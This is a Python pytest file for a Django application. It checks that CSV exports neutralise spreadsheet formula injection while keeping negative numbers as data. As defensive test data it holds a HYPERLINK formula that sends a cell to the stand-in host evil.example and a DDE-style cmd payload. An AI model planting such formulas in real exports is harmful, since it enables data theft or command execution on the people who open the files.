"""Every CSV the project writes opens in a spreadsheet as data: a cell that a spreadsheet would
run as a formula (starting with =, +, -, @, a tab or a carriage return) gets a quote in front;
a plain number, negative or with a decimal comma, stays a number."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from kernteam.csv_safe import safe_cell
from kernteam.roles import LOG_OFFICERS
from steps import kpi
from steps.kpi.scope import Table
from tests.factories import MembershipFactory, UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Janssen", "Janssen"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        # numbers are data, whatever their sign
        (-3, "-3"),
        (-1.5, "-1.5"),
        ("-3", "-3"),
        ("+2", "+2"),
        ("-1,5", "-1,5"),
        ("-0.25", "-0.25"),
    ],
)
def test_a_cell_that_would_run_gets_a_quote_and_a_number_stays(value, written):
    assert safe_cell(value) == written


def read(response, **fmt) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff")), **fmt))


def test_the_access_log_export_writes_no_formula(client, daalhof, resident_in):
    janssen = resident_in("step2", last_name="Janssen")
    prankster = UserFactory(username="grap", first_name=FORMULA, last_name="")
    MembershipFactory(team=daalhof.team, user=prankster, role="gp")
    client.force_login(prankster)
    assert client.get(reverse("resident", args=[janssen.pk])).status_code == 200
    officer = UserFactory(username="logfunctionaris")
    officer.groups.add(Group.objects.get_or_create(name=LOG_OFFICERS)[0])
    client.force_login(officer)
    response = client.get(reverse("resident_access", args=[janssen.pk]), {"format": "csv"})
    rows = read(response)
    who = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in who and FORMULA not in who


@pytest.fixture
def poisoned_kpi(monkeypatch):
    """A KPI table with text a spreadsheet would run, and negative figures."""

    class Poisoned:
        def table(self) -> Table:
            return Table(["=1+1", "measure"], [["@SUM(A1)", -3], ["-2+3", -1.5], ["\tx", "-4"]])

    monkeypatch.setattr(kpi, "kpi", lambda name, **kwargs: Poisoned())


@pytest.mark.parametrize("name", sorted(kpi.KPIS))
def test_every_kpi_export_writes_no_formula_and_keeps_negative_figures(
    client, daalhof, poisoned_kpi, name
):
    client.force_login(daalhof.coordinator)
    response = client.get(reverse("kpi_csv", args=[name]), {"team": "daalhof"})
    assert read(response, delimiter=";") == [
        ["'=1+1", "measure"],
        ["'@SUM(A1)", "-3"],
        ["'-2+3", "-1,5"],
        ["'\tx", "-4"],
    ]
